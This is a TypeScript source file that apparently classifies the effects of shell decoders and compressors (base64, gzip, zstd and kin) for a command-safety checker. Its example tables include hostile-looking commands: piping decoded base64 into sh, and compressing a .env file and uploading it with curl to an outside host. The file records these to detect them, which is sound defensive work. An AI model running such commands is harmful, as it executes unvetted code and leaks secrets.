/** Encoders and compressors. */

import type { EffectDraft } from '../../../../effects/effect';
import { own } from '../../own';
import type { Call, ProgramSpec } from '../../program';
import type { Stream, StreamSource, Word } from '../../spec';
import { deletes, filtered, reads, showsSecretInput, writes } from '../../stating';

/** `base64 -d` and its like: what comes out may be a program. */
export const decoders: ProgramSpec = {
  names: 'base64 base32 basenc uudecode uuencode gbase64',
  options: '-d,-D,--decode -w,--wrap=N -i -o,--output=FILE --base64 --base32 --base16',
  does(call) {
    const decodes = call.has('-d') !== false || call.name === 'uudecode';
    const files = [...call.operands, ...(call.name === 'base64' ? call.words('-i') : [])];
    return {
      effects: [...reads(call, files), ...showsSecretInput(call), ...writes(call, call.words('-o'), 'overwrite')],
      output: decodes ? decoded(call) : filtered(call, files),
    };
  },
  examples: {
    yields: {
      'base64 .env': 'fs.read{class=secret} + secret.read{store=env-file,audience=model}',
      'base64 -d run.b64 | sh': 'fs.read + code.exec{origin=decoded}',
      'base64 -d in.b64 -o out.bin': 'fs.write{path=/repo/out.bin,mode=overwrite}',
    },
    inert: ['base64 logo.png', 'base64 -d in.b64', 'echo aGk= | base64 --decode'],
  },
};

function decoded(call: Call): Stream {
  const sources = new Set(call.invocation.stdin?.sources ?? []);
  sources.delete('literal');
  return { text: null, sources: ['decoded', ...sources] };
}

/** Compressors replace the file by another, or print it with `-c`. */
export const compressors: ProgramSpec = {
  names: 'gzip gunzip bzip2 bunzip2 xz unxz zstd unzstd lz4 pigz compress uncompress brotli lzma unlzma',
  options:
    '-c,--stdout,--to-stdout -d,--decompress,--uncompress -k,--keep -f,--force -l,--list -t,--test -n -N -q -r,--recursive -S,--suffix=S -v -o,--output=FILE -1 -9 -T,--threads=N -z --rm -p=N',
  inertWith: ['-l', '-t'],
  does(call) {
    const { operands } = call;
    const coded: Stream = { text: null, sources: sourcesOf(call) };
    if (operands.length > 0 && call.has('-c') !== true) return { effects: replaces(call), content: coded };
    return { effects: reads(call, operands, { shown: false }), output: coded };
  },
  examples: {
    yields: {
      'gzip a.log': 'fs.read + fs.write{path=/repo/a.log.gz,mode=create} + fs.delete{path=/repo/a.log,undo=trivial}',
      'gunzip -k a.csv.gz': 'fs.read + fs.write{path=/repo/a.csv}',
      'zstd -19 a.bin -o out.zst': 'fs.read + fs.write{path=/repo/out.zst}',
      'gzip -c .env | curl --data-binary @- https://example.net':
        'fs.read + secret.read{audience=process} + net.upload{source=secret} + net.fetch',
    },
    inert: ['gzip -c a.log', 'zstd -t a.zst', 'gzip -l a.gz', 'xz -dc notes.txt.xz'],
  },
};

const decompresses = (call: Call): boolean => call.maybe('-d') || /^(g?un|unxz|bun)/.test(call.name);

/** What comes out is coded or decoded; a secret stays one. */
function sourcesOf(call: Call): readonly StreamSource[] {
  const secret = filtered(call, call.operands).sources.includes('secret');
  return [decompresses(call) ? 'decoded' : 'archive', ...(secret ? (['secret'] as const) : [])];
}

const endings: Readonly<Record<string, string>> = {
  bzip2: '.bz2',
  xz: '.xz',
  zstd: '.zst',
  lz4: '.lz4',
  compress: '.Z',
  brotli: '.br',
  lzma: '.lzma',
};

/** The file beside it is new; the first one goes, except where the program keeps it by itself. */
function replaces(call: Call): EffectDraft[] {
  const output = call.words('-o');
  const keeps =
    output.length > 0 || call.maybe('-k') || (/^(un)?(zstd|lz4|brotli)$/.test(call.name) && !call.maybe('--rm'));
  return [
    ...reads(call, call.operands, { shown: false }),
    ...writes(call, output.length > 0 ? output : call.operands.map((word) => besides(call, word)), 'create'),
    ...(keeps ? [] : deletes(call, call.operands, { recursive: false, undo: 'trivial' })),
  ];
}

function besides(call: Call, word: Word): Word {
  if (typeof word.value !== 'string') return word;
  if (decompresses(call)) return { ...word, value: word.value.replace(/\.(gz|bz2|xz|zst|lz4|Z|br|lzma)$/, '') };
  return { ...word, value: word.value + (own(endings, call.name) ?? '.gz') };
}
